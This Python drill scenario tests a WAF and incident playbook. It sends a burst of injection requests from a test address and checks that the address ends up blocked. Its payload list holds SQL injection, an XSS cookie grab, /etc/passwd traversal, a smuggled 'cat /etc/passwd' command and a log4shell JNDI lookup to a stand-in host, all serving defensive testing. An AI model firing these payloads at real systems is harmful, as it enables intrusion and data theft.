"""injection-burst: injection payloads from one address, refused by the WAF -> waf-block-burst.

The attacker probes like a scanner: one payload of each family, then one that
"looks promising" again and again.  The WAF refuses each request (403
``waf_blocked``) and audits it as ``gateway.waf``; the repeated payload is
audited aggregated (its first 10 refusals one record each, then one record a
second with a ``count``), so the burst is fewer than 20 records and the rule
fires only because it weighs each record by its count.  The playbook blocks
the address in the run-time block list: afterwards even a harmless request
from it is refused while others are served.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from ramparts.respond.drills.base import OK_HANDLER, Check, Scenario, check_blocked
from ramparts.respond.drills.errors import DrillError
from ramparts.respond.drills.node import ThrowawayNode

ATTACKER = "203.0.113.77"  # TEST-NET-3, sent as X-Forwarded-For from loopback
BYSTANDER = "198.51.100.24"
ATTEMPTS = 30  # waf-block-burst: 20 refusals within 60 s

# What a scanner tries first, one per family: SQL injection (two), XSS, path traversal,
# command injection, log4shell; then the first again until ATTEMPTS requests are sent
# (6 + 9 refusals audited whole, the other 15 in one or two aggregated records).
PAYLOADS = (
    "' or 1=1--",
    "1 union select password from users",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "${jndi:ldap://drill.example/a}",
)

MANIFEST = """
app: drill-injection
functions:
  catalog:
    handler: h.py:handler
    triggers:
      - http: {method: GET, path: /catalog, auth: none}
"""


class InjectionBurst(Scenario):
    name = "injection-burst"
    summary = f"{ATTEMPTS} injection payloads the WAF refuses from one address; it is blocked"
    rules = ("waf-block-burst",)
    containment = "block_ip"
    playbook_file = "injection-burst.yaml"

    def app(self) -> tuple[str, dict[str, str]]:
        return MANIFEST, {"h.py": OK_HANDLER}

    def attack(self, node: ThrowawayNode, work_dir: Path) -> None:
        burst = [*PAYLOADS, *[PAYLOADS[0]] * (ATTEMPTS - len(PAYLOADS))]
        for payload in burst:
            r = node.gateway.get(
                "/catalog", params={"q": payload}, headers={"x-forwarded-for": ATTACKER}
            )
            if r.status_code != 403:  # the WAF must refuse it, or there is nothing to detect
                raise DrillError(
                    f"the WAF let an injection payload through ({r.status_code}): {payload!r}"
                )

    def verify_contained(self, node: ThrowawayNode, incident: dict[str, Any]) -> Check:
        # a harmless request: only the block can refuse it now
        return check_blocked(
            node,
            "/catalog",
            ATTACKER,
            BYSTANDER,
            in_block_list=True,
            passed=f"{ATTACKER} is blocked: even a harmless request gets 403; others are served",
        )
